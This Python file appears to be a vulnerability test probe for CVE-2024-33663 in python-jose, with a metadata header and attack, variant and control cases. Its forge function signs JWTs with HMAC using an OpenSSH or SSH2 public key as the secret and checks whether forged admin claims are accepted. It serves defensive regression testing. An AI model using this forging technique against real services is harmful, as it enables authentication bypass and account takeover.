# /// vertice-probe
# id = "PYSEC-2024-232"
# aliases = ["CVE-2024-33663", "GHSA-6c5p-j8vq-pqhj"]
# package = "python-jose"
# summary = "Public keys in OpenSSH and other forms are taken as HMAC secrets, so anybody with the key signs tokens."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:L/A:N" }]
# cwe = ["CWE-327", "CWE-347"]
# kind = "auth-bypass"
# symbols = ["jose.jwt.decode", "jose.jws.verify", "jose.jwk.construct", "jose.jwt.encode"]
#
# [[affected]]
# package = "python-jose"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.4.0" }] }]
#
# [cases]
# attack = "a token signed by HMAC with an OpenSSH EC public key as secret is accepted"
# [cases.variants]
# ssh2_block = "the same through jws.verify with HS512 and a key in an SSH2 PUBLIC KEY block"
# [cases.controls]
# shared_secret = "an HMAC token with an ordinary secret is signed and read, a forged one refused"
#
# [test]
# vulnerable = "3.3.0"
# fixed = "3.4.0"
# ///
"""CVE-2024-33663: OpenSSH and other public keys serve as HMAC secrets."""

import base64
import hashlib
import hmac
import json
import sys
import warnings

warnings.simplefilter("ignore")
OPENSSH = (
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBKDFfDESD8mF7FmeIxz5BeiRRmdB3K4JWuQ8UN4"
    "dyAJH+hGRIJbO0UsNjjhpCw/bk0QHJtl728tAbSxtEPn8Fsg= shop"
)
SSH2 = "---- BEGIN SSH2 PUBLIC KEY ----\nComment: shop\n%s\n---- END SSH2 PUBLIC KEY ----\n" % OPENSSH.split()[1]


def part(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def forge(algorithm, digest, secret, claims):
    """A token signed by hand, as somebody would who has only the public key."""
    body = part(json.dumps({"typ": "JWT", "alg": algorithm}).encode()) + b"." + part(json.dumps(claims).encode())
    return (body + b"." + part(hmac.new(secret.encode(), body, digest).digest())).decode()


def read_and_look(read):
    from jose.exceptions import JOSEError

    try:
        claims = read()
    except JOSEError as error:
        # the key is refused; that it is not the signature shows in the words
        if "asymmetric key" not in str(error):
            raise
        return "blocked", "%s: %s" % (type(error).__name__, error)
    if claims == {"user": "admin"}:
        return "exploited", "forged claims accepted with the public key as HMAC secret"
    return "error", "unexpected claims %r" % (claims,)


def attack():
    from jose import jwt

    token = forge("HS256", hashlib.sha256, OPENSSH, {"user": "admin"})
    return read_and_look(lambda: jwt.decode(token, OPENSSH, algorithms=["ES256", "HS256"]))


def ssh2_block():
    from jose import jws

    token = forge("HS512", hashlib.sha512, SSH2, {"user": "admin"})
    return read_and_look(lambda: json.loads(jws.verify(token, SSH2, ["RS512", "HS512"]).decode()))


def shared_secret():
    from jose import jwt
    from jose.exceptions import JWTError

    secret = "an ordinary long shared secret, 48 bytes of letters"
    read = jwt.decode(jwt.encode({"user": "bob"}, secret, algorithm="HS256"), secret, algorithms=["HS256"])
    try:
        jwt.decode(forge("HS256", hashlib.sha256, "wrong", {"user": "bob"}), secret, algorithms=["HS256"])
        refused = False
    except JWTError:
        refused = True
    good = read == {"user": "bob"} and refused
    return ("works", "own token read, forged one refused") if good else ("broken", "%r %r" % (read, refused))


CASES = {"attack": attack, "ssh2_block": ssh2_block, "shared_secret": shared_secret}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
